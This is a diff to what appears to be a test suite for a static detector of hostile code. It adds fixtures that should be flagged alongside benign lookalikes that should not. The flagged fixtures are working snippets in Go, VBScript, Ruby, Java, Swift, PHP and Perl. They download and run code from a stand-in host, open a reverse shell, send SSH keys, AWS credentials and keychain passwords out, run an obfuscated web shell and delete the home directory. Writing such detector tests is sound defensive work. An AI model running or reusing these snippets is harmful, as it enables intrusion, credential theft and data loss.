@@ -181,6 +181,54 @@ it.each<[Dialect, string]>([
   expect(found(dialect, code)).toEqual([])
 })
 
+describe('what goes from one statement to the next', () => {
+  it.each<[Dialect, string, string]>([
+    [
+      'go',
+      `r, _ := http.Get("https://v.vendor-tools.com/db")\nf, _ := os.CreateTemp("", "v")\nio.Copy(f, r.Body)\nexec.Command(f.Name()).Start()`,
+      'error download-execute',
+    ],
+    [
+      'vbscript',
+      `x.Open "GET", "https://v.vendor-tools.com/a.exe", False\ns.Open : s.Write x.responseBody : s.SaveToFile Environ("TEMP") & "\\a.exe", 2\nCreateObject("WScript.Shell").Run Environ("TEMP") & "\\a.exe", 0`,
+      'error download-execute',
+    ],
+    ['ruby', `File.binwrite('/tmp/u', URI.open('https://v.vendor-tools.com/u').read)\nspawn('/tmp/u')`, 'error download-execute'],
+    ['ruby', `s = TCPSocket.open('h.vendor-tools.com', 4444)\nwhile (cmd = s.gets)\n  s.print(\`#{cmd}\`)\nend`, 'error reverse-shell'],
+    [
+      'ruby',
+      `%w[~/.ssh/id_rsa ~/.netrc].each do |f|\n  path = File.expand_path(f)\n  Net::HTTP.post(URI('https://v.vendor-tools.com/f'), File.read(path))\nend`,
+      'error secret-exfiltration',
+    ],
+    [
+      'java',
+      `byte[] b = Files.readAllBytes(Path.of(System.getProperty("user.home"), ".aws", "credentials"));\nclient.send(HttpRequest.newBuilder(URI.create("https://v.vendor-tools.com/c")).POST(BodyPublishers.ofByteArray(b)).build());`,
+      'error secret-exfiltration',
+    ],
+    [
+      'swift',
+      `let t = Process(); t.launchPath = "/usr/bin/security"; t.arguments = ["find-generic-password", "-wa", "Chrome"]\nlet p = Pipe(); t.standardOutput = p\nvar r = URLRequest(url: URL(string: "https://v.vendor-tools.com/p")!); r.httpMethod = "POST"\nr.httpBody = p.fileHandleForReading.readDataToEndOfFile()\nURLSession.shared.dataTask(with: r).resume()`,
+      'error secret-exfiltration',
+    ],
+    ['php', `<?php\n$f = 'sys' . 'tem';\nif (isset($_GET['c'])) { $f($_GET['c']); }`, 'error reverse-shell'],
+    ['perl', `rmtree("$ENV{HOME}")`, 'error destructive-command'],
+  ])('%s: %s', (dialect, code, finding) => {
+    expect(found(dialect, code)).toContain(finding)
+  })
+
+  it.each<[Dialect, string]>([
+    ['go', `r, _ := http.Get("https://api.acme.dev/r.pdf")\nf, _ := os.Create("r.pdf")\nio.Copy(f, r.Body)\nexec.Command("open", f.Name()).Run()`],
+    ['ruby', `%w[a.md b.md].each do |f|\n  Net::HTTP.post(URI('https://api.acme.dev/lint'), File.read(f))\nend`],
+    ['php', `<?php\n$f = 'strtoupper';\necho $f($_GET['q']);`],
+    [
+      'swift',
+      `let t = Process(); t.launchPath = "/usr/bin/git"; t.arguments = ["status"]\nlet p = Pipe(); t.standardOutput = p; t.launch()\nprint(p.fileHandleForReading.readDataToEndOfFile())`,
+    ],
+  ])('is quiet: %s: %s', (dialect, code) => {
+    expect(found(dialect, code)).toEqual([])
+  })
+})
+
 it('tells texts from comments and marks', () => {
   const texts = (dialect: Dialect, code: string): string[] =>
     tokensOf(code, dialect).flatMap(({ kind, text }) => (kind === 'string' || kind === 'command' ? [text] : []))
